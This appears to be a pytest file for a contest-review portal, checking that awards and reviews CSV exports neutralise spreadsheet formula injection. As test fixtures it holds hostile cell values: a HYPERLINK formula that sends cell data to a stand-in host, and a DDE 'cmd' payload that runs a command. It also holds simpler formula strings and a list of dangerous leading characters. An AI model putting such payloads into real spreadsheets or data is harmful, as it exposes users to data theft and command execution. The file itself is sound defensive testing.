"""Every CSV the organizers download holds no cell a spreadsheet would run: an author's name, a
non-profit, a reviewer's comments and an override reason planted as formulas come out neutralised
(a single quote in front, the cell quoted), as OWASP advises."""

from __future__ import annotations

import csv
import io

import pytest

from portal.services import AuthorData
from reviews import outcome
from reviews.models import Award
from tests.reviews.conftest import acknowledging_every_gap, acknowledging_gaps_of, another_submission, each, submit

pytestmark = pytest.mark.django_db

AUTHOR = '=HYPERLINK("http://evil.test/?leak="&A1,"Open")'
NONPROFIT = "+SUM(1,2)"
TO_AUTHORS = "-2+3 looks like arithmetic"
TO_ORGANIZERS = "@SUM(A1:A9)"
REASON = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(scene):
    """A submission whose author's name is a formula, awarded third by an override whose reason is one,
    reviewed with formula comments; its winner names a formula non-profit."""
    s = scene
    evil = another_submission(s, task_name="hostile-task", owner="owner_eve_q9",
                              author=AuthorData(AUTHOR, "eve@hostile.test", "@affiliation"), seed=77)
    submit(s.rita_a, s.rita, each("grand"), to_authors=TO_AUTHORS, to_organizers=TO_ORGANIZERS)
    outcome.confirm_awards(round=s.round, by=s.organizer, acknowledged=acknowledging_every_gap(s.round))
    outcome.override_award(round=s.round, submission=evil, tier="third", reason=REASON, by=s.organizer,
                           acknowledgement=acknowledging_gaps_of(s.round, evil))
    outcome.release_feedback(round=s.round, by=s.organizer)
    outcome.announce_awards(round=s.round, by=s.organizer)
    outcome.name_nonprofit(award=Award.objects.get(submission=evil), user=evil.owner, nonprofit=NONPROFIT)
    return s


def _rows(client, url: str) -> tuple[str, list[dict]]:
    body = client.get(url).content.decode()
    return body, list(csv.DictReader(io.StringIO(body)))


def test_the_awards_csv_neutralises_an_author_name_a_nonprofit_and_an_override_reason(client, hostile):
    client.force_login(hostile.organizer)
    body, rows = _rows(client, "/reviews/contests/isp/export/awards.csv")
    [row] = [r for r in rows if r["task_name"] == "hostile-task"]
    assert (row["authors"], row["nonprofit"], row["override_reason"]) == (
        f"'{AUTHOR} <eve@hostile.test>", f"'{NONPROFIT}", f"'{REASON}")
    assert '"\'=HYPERLINK(""http://evil.test/?leak=""&A1,""Open"") <eve@hostile.test>"' in body
    assert ',"\'+SUM(1,2)",' in body  # quoted: the comma stays inside the cell
    assert row["amount_paid_usd"] == "5000"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_the_reviews_csv_neutralises_the_comments(client, hostile):
    client.force_login(hostile.organizer)
    body, rows = _rows(client, "/reviews/contests/isp/export/reviews.csv")
    [row] = [r for r in rows if r["to_authors"].endswith("looks like arithmetic")]
    assert (row["to_authors"], row["to_organizers"]) == (f"'{TO_AUTHORS}", f"'{TO_ORGANIZERS}")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
